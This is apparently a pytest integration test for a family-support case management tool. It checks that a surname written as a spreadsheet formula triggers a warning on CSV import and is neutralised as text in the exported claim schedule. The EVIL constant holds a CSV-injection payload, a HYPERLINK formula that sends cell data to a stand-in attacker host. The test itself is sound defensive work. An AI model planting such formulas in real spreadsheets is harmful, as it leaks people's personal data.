"""The CSV files a coordinator opens in Excel, end to end from the command line: a family named
like a formula (the issue's `=HYPERLINK(...)`) is warned about when the council's CSV is imported,
imported as written, and shown as text in the claim schedule and the dashboard's CSV."""

import csv
import datetime as dt
from pathlib import Path

import pytest

from db.store import Store
from fmdesk.families import Family
from fmdesk.roles import Role
from tests.conftest import StoreTemplates
from tests.integration.test_cli import PASSPHRASE, fmdesk
from tests.recorded import recorded_on
from tests.unit.test_identified_csv import GOOD, csv_bytes
from tests.unit.test_programme import fixture_programme

EVIL = '=HYPERLINK("http://evil.example/?d="&B2,"Click for details")'


@pytest.fixture
def home(tmp_path: Path, store_templates: StoreTemplates) -> Path:
    home = tmp_path / "home"
    store_templates.copy(home / "store", Role.COORDINATOR, name="Central Team")
    return home


def rows_of(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as fh:
        return list(csv.DictReader(fh))


def test_import_csv_warns_about_a_formula_and_imports_it_as_written(
    home: Path, tmp_path: Path
) -> None:
    quoted = EVIL.replace('"', '""')
    data = tmp_path / "identified.csv"
    data.write_bytes(
        csv_bytes(*GOOD, f'K-300,2 Dock Rd,,parent,Ola,"{quoted}",1980-01-01,,,,,,,,,,,')
    )
    checked = fmdesk(home, "families", "import-csv", str(data), "--check")
    assert checked.returncode == 0, checked.stderr
    assert (
        "  warning: Row 6, column surname: begins with '=', so a spreadsheet may run it as a "
        "formula" in checked.stdout
    )
    done = fmdesk(home, "families", "import-csv", str(data))
    assert done.returncode == 0, done.stderr
    assert "Imported 3 families" in done.stdout
    with Store.open(home / "store", PASSPHRASE) as store:
        names = {f.name for f in store.list(Family)}
    assert f"{EVIL} family" in names


def test_the_claim_schedule_and_dashboard_csv_show_a_formula_as_text(
    home: Path, tmp_path: Path
) -> None:
    records, refs = fixture_programme()
    ready = refs["FM-001"]
    records = [r.replace(name=EVIL) if r.id == ready.id else r for r in records]
    # Saved in November 2025: the batch is judged as at the end of its period, 31 December.
    with Store.open(home / "store", PASSPHRASE) as store, recorded_on(store, dt.date(2025, 11, 15)):
        store.save(*records)
    made = fmdesk(
        home, "claims", "batch", "Q3", "--from", "2025-10-01", "--to", "2025-12-31",
        "--family", "FM-001",
    )  # fmt: skip
    assert made.returncode == 0, made.stderr
    schedule = tmp_path / "schedule.csv"
    wrote = fmdesk(home, "claims", "schedule", "Q3", "--csv", str(schedule))
    assert wrote.returncode == 0, wrote.stderr
    rows = rows_of(schedule)
    assert rows
    assert {r["family_name"] for r in rows} == {"'" + EVIL}

    figures = tmp_path / "figures.csv"
    shown = fmdesk(home, "programme", "dashboard", "--year", "2025", "--csv", str(figures))
    assert shown.returncode == 0, shown.stderr
    for row in rows_of(figures):
        # The figures stay plain numbers a spreadsheet can add up; none is neutralised.
        for column in ("value", "of", "percent", "target", "average", "families"):
            assert not row[column].startswith("'"), row
            if row[column]:
                float(row[column])
